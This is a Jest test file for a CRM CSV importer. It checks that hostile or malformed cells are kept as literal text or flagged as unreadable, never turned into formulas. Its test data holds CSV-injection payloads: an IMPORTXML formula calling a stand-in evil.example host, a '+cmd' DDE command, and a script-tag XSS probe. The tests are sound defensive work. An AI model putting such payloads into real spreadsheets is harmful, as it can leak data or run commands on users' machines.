/** Hostile and malformed cells in an imported CSV (npm run simulate): each is stored literally or reported as unreadable by its CSV line — never dropped, never turned into a formula. */

import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import { simulate } from "../../local/simulate/simulation";
import { DIST } from "../helpers/runtime";

jest.setTimeout(30000);

const HEADER = "客户名称,联系人,跟进时间,跟进方式,跟进内容,当前阶段,下一步计划,下次跟进日期,责任人";
const GOOD = "上海某科技,张三,2024/6/3,电话,介绍产品,已报价,发报价,2024/6/7,李四";

/** One CSV field, quoted as a spreadsheet export quotes it. */
const field = (text: string) => (/[",\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);

interface CsvCase {
  name: string;
  /** The hostile row's cells by header, the rest as in GOOD. */
  cells: Partial<Record<"customer" | "date" | "nextDate" | "summary" | "owner", string>>;
  /** Either the text stored in the customer/summary cell, or the problem reported for CSV line 3. */
  outcome: { literal: { column: "customer" | "summary"; text: string } } | { unreadable: string };
}

const CASES: CsvCase[] = [
  {
    name: "a formula as customer",
    cells: { customer: '=IMPORTXML("http://evil.example","//a")' },
    outcome: { literal: { column: "customer", text: '=IMPORTXML("http://evil.example","//a")' } },
  },
  {
    name: "+cmd as customer",
    cells: { customer: "+cmd|' /C calc'!A0" },
    outcome: { literal: { column: "customer", text: "+cmd|' /C calc'!A0" } },
  },
  {
    name: "@SUM as customer",
    cells: { customer: "@SUM(1+1)" },
    outcome: { literal: { column: "customer", text: "@SUM(1+1)" } },
  },
  { name: "-2+3 as summary", cells: { summary: "-2+3" }, outcome: { literal: { column: "summary", text: "-2+3" } } },
  {
    name: "a script tag as summary",
    cells: { summary: "<script>alert(1)</script>" },
    outcome: { literal: { column: "summary", text: "<script>alert(1)</script>" } },
  },
  {
    name: "emoji and right-to-left text",
    cells: { customer: "🚀 شركة الأمل" },
    outcome: { literal: { column: "customer", text: "🚀 شركة الأمل" } },
  },
  {
    name: "a zero-width space in a name",
    cells: { customer: "北京\u200b某贸易" },
    outcome: { literal: { column: "customer", text: "北京\u200b某贸易" } },
  },
  { name: "leading zeros", cells: { customer: "007" }, outcome: { literal: { column: "customer", text: "007" } } },
  { name: "2024/2/30", cells: { date: "2024/2/30" }, outcome: { unreadable: "date notADate" } },
  { name: "13/13/2024", cells: { date: "13/13/2024" }, outcome: { unreadable: "date notADate" } },
  { name: "6月31日 (no such day)", cells: { date: "6月31日" }, outcome: { unreadable: "date notADate" } },
  { name: "a serial number as date", cells: { date: "45450" }, outcome: { unreadable: "date notADate" } },
  { name: "no date", cells: { date: "" }, outcome: { unreadable: "date missingDate" } },
  { name: "no customer", cells: { customer: "" }, outcome: { unreadable: "customer missingCustomer" } },
];

const KEYS = ["customer", "", "date", "", "summary", "", "", "nextDate", "owner"] as const;

function csvWith(c: CsvCase): string {
  const good = GOOD.split(",");
  const row = good.map((value, i) => {
    const key = KEYS[i];
    return key && key in c.cells ? field(c.cells[key as keyof CsvCase["cells"]] ?? "") : value;
  });
  return `${HEADER}\n${GOOD}\n${row.join(",")}\n${GOOD.replace("上海某科技", "广州某制造")}\n`;
}

describe("imported CSV cells", () => {
  it.each(CASES.map((c) => [c.name, c] as const))("%s", async (_name, c) => {
    const dir = mkdtempSync(path.join(tmpdir(), "csv-corpus-"));
    try {
      const csv = path.join(dir, "export.csv");
      writeFileSync(csv, csvWith(c));
      const out = path.join(dir, "out");
      const summary = await simulate({ csv, at: "2024-06-10T09:30", tz: "Asia/Shanghai", out, dist: DIST });
      // Nothing is dropped: three data rows in, three rows in the table (an unreadable one is also listed).
      expect(summary.rows).toBe(3);
      const line3 = summary.unreadable
        .filter((u) => u.line === 3)
        .flatMap((u) => u.problems.map((p) => `${p.column} ${p.kind}`));
      if ("unreadable" in c.outcome) {
        expect(line3).toContain(c.outcome.unreadable);
        return;
      }
      expect(line3).toEqual([]);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(path.join(out, "workbook.xlsx"));
      const sheet = workbook.worksheets[0];
      const column = c.outcome.literal.column === "customer" ? 1 : 5;
      const cell = sheet?.getRow(3).getCell(column);
      expect(cell?.formula).toBeUndefined();
      expect(cell?.value).toBe(c.outcome.literal.text);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
